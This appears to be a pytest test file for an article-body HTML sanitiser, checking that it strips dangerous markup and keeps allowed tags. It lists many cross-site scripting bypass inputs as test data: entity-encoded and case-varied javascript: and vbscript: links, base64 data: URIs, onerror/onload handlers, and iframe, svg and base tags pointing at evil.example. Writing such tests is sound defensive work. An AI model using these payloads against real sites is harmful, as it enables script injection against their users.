"""The body sanitiser (articles/sanitize.py), one rule per test: what it refuses, each
case with markup around it that must survive, and what it keeps, so that no test can
pass by a sanitiser that deletes everything.

Already caught in tests/test_rules_caught.py (not repeated): plain ``javascript:`` and
``data:`` links, ``//host`` and relative image addresses.
"""

import pytest

from articles.sanitize import sanitize_body
from tests.security.payloads import fragment_findings


def clean(html):
    cleaned = sanitize_body(html)
    assert fragment_findings(cleaned) == [], cleaned
    return cleaned


LINK_LEFT = '<p>Lire <a rel="noopener noreferrer">le lien</a> ici.</p>'


def link(href):
    return f'<p>Lire <a href="{href}">le lien</a> ici.</p>'


# --- Script schemes: the link stays as text, without its address ----------------------


@pytest.mark.parametrize(
    "href",
    [
        "JaVaScRiPt:alert(1)",
        "JAVASCRIPT:alert(1)",
        "jav&#x09;ascript:alert(1)",  # a tab inside the scheme, entity-encoded
        "jav&#9;ascript:alert(1)",
        "java&#10;script:alert(1)",  # a line feed
        "java\nscript:alert(1)",
        "&#106;avascript:alert(1)",  # decimal entity
        "&#x6A;&#x61;&#x76;&#x61;script:alert(1)",  # hexadecimal entities
        "javascript&colon;alert(1)",  # named entity for ":"
        "   javascript:alert(1)",  # leading spaces
        "&#x20;javascript:alert(1)",
        "\x01javascript:alert(1)",  # a control character before the scheme
        "javascript://example.org/%0Aalert(1)",
    ],
)
def test_javascript_links_lose_their_address(href):
    assert clean(link(href)) == LINK_LEFT


@pytest.mark.parametrize(
    "html",
    [
        '<p>Lire <img src="javascript:alert(1)" alt="x"> ici.</p>',
        '<p>Lire <img src=" JaVaScRiPt:alert(1)" alt="x"> ici.</p>',
    ],
)
def test_javascript_images_are_dropped(html):
    assert clean(html) == "<p>Lire  ici.</p>"


@pytest.mark.parametrize(
    "href",
    [
        "data:text/html,<script>alert(1)</script>",
        " Data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "&#100;ata:text/html,x",
        "data:image/svg+xml,<svg onload=alert(1)>",
    ],
)
def test_data_links_lose_their_address(href):
    assert clean(link(href.replace("<", "&lt;").replace(">", "&gt;"))) == LINK_LEFT


@pytest.mark.parametrize(
    "src",
    [
        "data:image/png;base64,iVBORw0KGgo=",
        "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
        "DATA:image/gif;base64,R0lGODlhAQABAAAAACw=",
    ],
)
def test_data_images_are_dropped(src):
    assert clean(f'<figure><img src="{src}" alt="x"><figcaption>Légende</figcaption></figure>') == (
        "<figure><figcaption>Légende</figcaption></figure>"
    )


@pytest.mark.parametrize(
    "html",
    [
        link("vbscript:msgbox(1)"),
        link("VBScript:msgbox(1)"),
        link(" vbs&#x63;ript:msgbox(1)"),
        '<p>Lire <a href="vbscript:msgbox(1)">le lien</a> ici.<img src="vbscript:msgbox(2)"></p>',
    ],
)
def test_vbscript_links_and_images_lose_their_address(html):
    assert clean(html) == LINK_LEFT


# --- Protocol-relative image addresses, as a browser reads them ------------------------


@pytest.mark.parametrize(
    "src",
    [
        "/\\evil.example/pixel.png",  # "\" is "/" to a browser
        "\\\\evil.example/pixel.png",
        "\\/evil.example/pixel.png",
        "/&#9;/evil.example/pixel.png",  # tabs and line breaks are dropped by browsers
        "/&#10;/evil.example/pixel.png",
        "&#13;//evil.example/pixel.png",
        "&#x0C;//evil.example/pixel.png",  # a form feed trimmed from the start
    ],
)
def test_images_that_a_browser_reads_as_protocol_relative_are_dropped(src):
    html = f'<p>Avant.</p><figure><img src="{src}" alt="x"></figure><p>Après.</p>'
    assert clean(html) == "<p>Avant.</p><figure></figure><p>Après.</p>"


@pytest.mark.parametrize(
    "src",
    ["/media/images/renditions/photo-960w.jpg", "https://cdn.example.org/photo.jpg",
     "http://cdn.example.org/a/b.png"],
)  # fmt: skip
def test_images_from_this_site_or_an_absolute_address_stay(src):
    html = f'<figure><img src="{src}" alt="Un couloir"></figure>'
    assert clean(html) == html


# --- Attributes ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ('<p onclick="alert(1)">Texte</p>', "<p>Texte</p>"),
        ('<p OnClick="alert(1)">Texte</p>', "<p>Texte</p>"),
        ('<img src="/media/a.jpg" alt="a" onerror="alert(1)">', '<img src="/media/a.jpg" alt="a">'),
        ('<img src="/media/a.jpg" alt="a" onload="alert(1)">', '<img src="/media/a.jpg" alt="a">'),
        ('<p><a href="https://example.org/" onmouseover="alert(1)">lien</a></p>',
         '<p><a href="https://example.org/" rel="noopener noreferrer">lien</a></p>'),
        ('<h2 onfocus="alert(1)" autofocus tabindex="0">Titre</h2>', "<h2>Titre</h2>"),
        ('<body onload="alert(1)"><p>Texte</p></body>', "<p>Texte</p>"),
        ('<blockquote onanimationstart="alert(1)">Cité</blockquote>',
         "<blockquote>Cité</blockquote>"),
    ],
)  # fmt: skip
def test_event_handler_attributes_are_dropped(html, expected):
    assert clean(html) == expected


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ('<p style="background:url(javascript:alert(1))">Texte</p>', "<p>Texte</p>"),
        ('<h2 style="color:red">Titre</h2>', "<h2>Titre</h2>"),
        ('<p><a href="https://example.org/" style="position:fixed;inset:0">lien</a></p>',
         '<p><a href="https://example.org/" rel="noopener noreferrer">lien</a></p>'),
        ('<img src="/media/a.jpg" alt="a" style="width:expression(alert(1))">',
         '<img src="/media/a.jpg" alt="a">'),
    ],
)  # fmt: skip
def test_the_style_attribute_is_dropped(html, expected):
    assert clean(html) == expected


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ('<p class="alerte" id="main">Texte</p>', "<p>Texte</p>"),
        ('<p><a href="https://example.org/" target="_blank" rel="opener">lien</a></p>',
         '<p><a href="https://example.org/" rel="noopener noreferrer">lien</a></p>'),
        ('<img src="/media/a.jpg" alt="a" srcset="https://evil.example/x.png 2x">',
         '<img src="/media/a.jpg" alt="a">'),
        ('<img src="/media/a.jpg" alt="a" data-file="1 onerror=alert(1)" width="100%">',
         '<img src="/media/a.jpg" alt="a">'),
        ('<figure data-image="x" data-evil="1"><figcaption>L</figcaption></figure>',
         "<figure><figcaption>L</figcaption></figure>"),
    ],
)  # fmt: skip
def test_attributes_outside_the_allowlist_are_dropped(html, expected):
    assert clean(html) == expected


# --- Tags ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("tag", "html", "text_left"),
    [
        ("script", "<script>alert(1)</script>", ""),
        ("script", '<SCRIPT src="https://evil.example/x.js"></SCRIPT>', ""),
        ("iframe", '<iframe src="https://evil.example/" srcdoc="<b>x</b>">alert(1)</iframe>', ""),
        ("object", '<object data="https://evil.example/x.swf">alert(1)</object>', ""),
        ("embed", '<embed src="https://evil.example/x.swf">', ""),
        ("style", "<style>body { display: none } /* alert(1) */</style>", ""),
        ("template", "<template><img src=x onerror=alert(1)></template>", ""),
        ("form", '<form action="https://evil.example/"><input name="mdp"><button>OK</button>'
                 "</form>", "OK"),
        ("svg", '<svg onload="alert(1)"><script>alert(2)</script><circle r="1"/></svg>', ""),
        ("math", '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>', ""),
        ("base", '<base href="https://evil.example/">', ""),
        ("meta", '<meta http-equiv="refresh" content="0;url=https://evil.example/">', ""),
        ("link", '<link rel="stylesheet" href="https://evil.example/x.css">', ""),
    ],
)  # fmt: skip
def test_disallowed_tags_are_dropped(tag, html, text_left):
    """Gone, with whatever they held (only a form's button label is left, as text)."""
    cleaned = clean(f"<p>Avant.</p>{html}<p>Après.</p>")
    assert f"<{tag}" not in cleaned.lower()
    assert cleaned == f"<p>Avant.</p>{text_left}<p>Après.</p>"


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("<h1>Gros titre</h1>", "Gros titre"),
        ("<div><span>Texte</span></div>", "Texte"),
        ("<table><tr><td>Case</td></tr></table>", "Case"),
        ("<marquee>Défile</marquee>", "Défile"),
    ],
)
def test_other_tags_leave_only_their_text(html, expected):
    assert clean(html) == expected


# --- What an article needs survives ----------------------------------------------------


@pytest.mark.parametrize(
    "html",
    [
        "<h2>Un intertitre</h2><h3>Un sous-intertitre</h3>",
        "<p>Un paragraphe.</p><p>Un autre<br>sur deux lignes.</p>",
        "<p><strong>Gras</strong> et <em>italique</em>, <strong><em>les deux</em></strong>.</p>",
        '<p><a href="https://www.has-sante.fr/jcms/c_1" rel="noopener noreferrer">HAS</a></p>',
        '<p><a href="http://example.org/a?b=1&amp;c=2#d" title="Source" '
        'rel="noopener noreferrer">source</a></p>',
        '<p><a href="mailto:redaction@exemple.fr" rel="noopener noreferrer">écrire</a></p>',
        '<p><a href="/financement/politique-de-sante/" rel="noopener noreferrer">lire</a></p>',
        "<ul><li>Un</li><li>Deux</li></ul>",
        '<ol start="3"><li>Trois</li><li>Quatre</li></ol>',
        "<blockquote><p>« Une citation. »</p></blockquote>",
        '<figure><img src="/media/images/renditions/a-960w.jpg" alt="Un couloir" data-file="42">'
        "<figcaption>Légende <em>propre</em></figcaption></figure>",
        '<figure data-image="42"><figcaption>Ancienne légende</figcaption></figure>',
        '<p><img src="https://cdn.example.org/a.jpg" alt="Graphique" width="640" height="480"></p>',
    ],
)
def test_allowed_markup_survives_as_written(html):
    assert clean(html) == html
